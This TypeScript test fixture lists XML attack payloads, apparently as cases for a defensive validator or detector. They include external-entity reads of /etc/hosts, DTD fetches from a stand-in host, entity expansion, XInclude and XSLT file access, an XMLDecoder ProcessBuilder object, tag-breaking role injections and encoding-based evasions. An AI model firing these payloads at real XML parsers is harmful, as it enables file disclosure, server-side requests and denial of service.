import { type Case, casesOf } from './case.ts';

const of = casesOf('xml-attack');
const XSL = '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"';

export const XML_ATTACK: readonly Case[] = [
  ...of(
    'entities from elsewhere',
    '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/hosts">]><a>&b;</a>',
    '<?xml version="1.0"?>\n<!DOCTYPE a [\n<!ENTITY b PUBLIC "q" "http://q.example/">\n]><a/>',
    '<!DOCTYPE a [<!ENTITY % b SYSTEM "http://q.example/b.dtd"> %b;]>',
    '<!doctype a [<!entity b system "/etc/hosts">]>',
    "<!DOCTYPE a[<!ENTITY b SYSTEM'c:/q.txt'>]>",
    '<!ENTITY % b SYSTEM "php://filter/resource=q">',
    '<!-- q --><!DOCTYPE a [<!ENTITY b SYSTEM "q">]>',
    '<!DOCTYPE a [<!ENTITY b SYSTEM',
  ),
  ...of(
    'a document type from elsewhere',
    '<!DOCTYPE a SYSTEM "http://q.example/a.dtd">',
    '<!DOCTYPE a PUBLIC "-//q" "ftp://q.example/">',
  ),
  ...of(
    'entities that grow',
    '<!DOCTYPE a [<!ENTITY b "bb"><!ENTITY c "&b;&b;&b;">]><a>&c;</a>',
    '<!DOCTYPE a [<!ENTITY % b "&#37;c;&#37;c;">]>',
    '<!DOCTYPE a [<!ENTITY b "text">]><a>&b;</a>',
  ),
  ...of(
    'inside something else',
    '"/><!DOCTYPE a [<!ENTITY b SYSTEM "q">]>',
    '<soap:Body><a><![CDATA[<!DOCTYPE a [<!ENTITY % b SYSTEM "http://q.example/">%b;]>]]></a></soap:Body>',
    '<Envelope>&lt;!DOCTYPE a [&lt;!ENTITY b SYSTEM "q"&gt;]&gt;</Envelope>',
    '{"doc":"<!DOCTYPE a [<!ENTITY b SYSTEM \'q\'>]>"}',
    '%3C!DOCTYPE%20a%20SYSTEM%20%22http://q.example%22%3E',
    'PCFET0NUWVBFIGEgU1lTVEVNICJodHRwOi8vcS5leGFtcGxlIj4=',
    '\uff1c!DOCTYPE a SYSTEM "http://q.example">',
    '<\0!\0DOCTYPE a SYSTEM "http://q.example">',
  ),
  ...of(
    'stretched',
    `<!DOCTYPE${' '.repeat(60)}a [<!ENTITY${'\n'.repeat(60)}b${'\t'.repeat(60)}SYSTEM 'q'>]>`,
    `${'<!-- -->'.repeat(90)}<!DOCTYPE a SYSTEM 'http://q.example/'>`,
    `${'<a>'.repeat(700)}<xi:include href='file:///q'/>`,
    'x" ><!DOCTYPE a SYSTEM "http://q.example/">',
  ),
  ...of(
    'inclusion',
    '<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/hosts"/></a>',
    '<q:include xmlns:q="http://www.w3.org/2001/XInclude" href="http://q.example/"/>',
    '<esi:include src="http://q.example/"/>',
  ),
  ...of(
    'stylesheets',
    '<?xml-stylesheet type="text/xsl" href="http://q.example/q.xsl"?><a/>',
    `${XSL}><xsl:template match="/"><xsl:copy-of select="document('/etc/hosts')"/></xsl:template></xsl:stylesheet>`,
    `${XSL} xmlns:php="http://php.net/xsl"/>`,
    `${XSL}><msxsl:script language="C#">q</msxsl:script></xsl:stylesheet>`,
    `${XSL}><xsl:include href="http://q.example/q.xsl"/></xsl:stylesheet>`,
    `${XSL}><xsl:value-of select="system-property('xsl:vendor')"/></xsl:stylesheet>`,
  ),
  ...of(
    'drawings and objects',
    '<svg><image xlink:href="file:///etc/hosts"/></svg>',
    '<svg><image href="expect://id"/></svg>',
    '<java class="java.beans.XMLDecoder"><object class="java.lang.ProcessBuilder"/></java>',
  ),
  ...of(
    'leaves its place',
    ']]><admin>1</admin>',
    'x]]> <!-- q',
    '<![CDATA[<]]>script<![CDATA[>]]>',
    'java<![CDATA[<img src="javas]]><![CDATA[cript:q">]]>',
    'x</login><role>root</role><login>',
    'x</login></user><user><login>root',
    'x</pin><!--',
  ),
  ...of(
    'another encoding',
    '<?xml version="1.0" encoding="UTF-7"?>+ADw-a+AD4-',
    "<?xml version='1.0' encoding='IBM037'?><a/>",
    '<?xml version="1.0" encoding="ebcdic-us"?>',
  ),
];
